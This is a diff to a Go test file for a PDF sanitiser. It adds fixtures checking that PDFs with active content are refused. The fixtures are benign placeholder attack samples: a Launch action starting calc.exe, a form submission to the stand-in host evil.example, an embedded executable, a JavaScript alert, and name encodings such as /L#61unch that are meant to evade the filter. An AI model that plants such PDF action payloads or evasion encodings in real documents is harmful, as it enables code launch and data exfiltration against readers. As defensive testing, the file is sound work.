@@ -37,7 +37,7 @@ func leaflet(catalog, page string, more ...string) []byte {
 	objects := []string{
 		"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R " + catalog + " >>",
 		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> /LastModified (D:20240101000000Z) " + page + " >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /LastModified (D:20240101000000Z) " + page + " >>",
 		stream("", "0 0 100 100 re f % drawn"),
 		stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">secret author</x:xmpmeta>"),
 		"<< /Author (secret author) /Title (secret title) /Producer (secret program) /CreationDate (D:20240101000000Z) >>",
@@ -74,14 +74,30 @@ func TestDocumentsThatActAreRefused(t *testing.T) {
 		"one that starts others": leaflet("/OpenAction << /S /Launch /F (calc.exe) >>", ""),
 		"one that sends":         leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>"),
 		"another file":           leaflet("/Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >>", "", "<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>", stream("/Type /EmbeddedFile", "MZ")),
+		"a name elsewhere":       leaflet("/OpenAction << /S 7 0 R /F (calc.exe) >>", "", "/Launch"),
+		"a name that is nowhere": leaflet("/OpenAction << /S 99 0 R /F (calc.exe) >>", ""),
+		"a name in disguise":     leaflet("/OpenAction << /#53 /L#61unch /F (calc.exe) >>", ""),
 		"what the page does":     leaflet("", "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
 	} {
 		if _, err := clean(content); !errors.Is(err, media.Acting) {
 			t.Errorf("%s: %v", name, err)
 		}
 	}
+	for name, content := range map[string][]byte{ // these are no documents to begin with
+		"a name further away": leaflet("/OpenAction << /S 7 0 R /F (calc.exe) >>", "", "8 0 R", "/Launch"),
+		"a name of no name":   leaflet("/OpenAction << /S 7 0 R /F (calc.exe) >>", "", "(Launch)"),
+		"a key in disguise":   leaflet("/OpenAction << /S 7 0 R /#4a#53 (app.alert\\(1\\)) >>", "", "/URI"),
+	} {
+		if _, err := clean(content); !errors.Is(err, media.Acting) && !errors.Is(err, media.Damaged) {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
 	if c := mustClean(t, leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>")); !bytes.Contains(c.out, []byte("%PDF")) {
 		t.Error("a link is no action")
+	}
+	c := mustClean(t, leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 8 0 R /URI (https://example.org) >> >>", "/URI"))
+	if again := mustClean(t, c.out); !bytes.HasPrefix(again.out, []byte("%PDF-")) {
+		t.Error("a link whose kind stands elsewhere is no action either")
 	}
 }
 
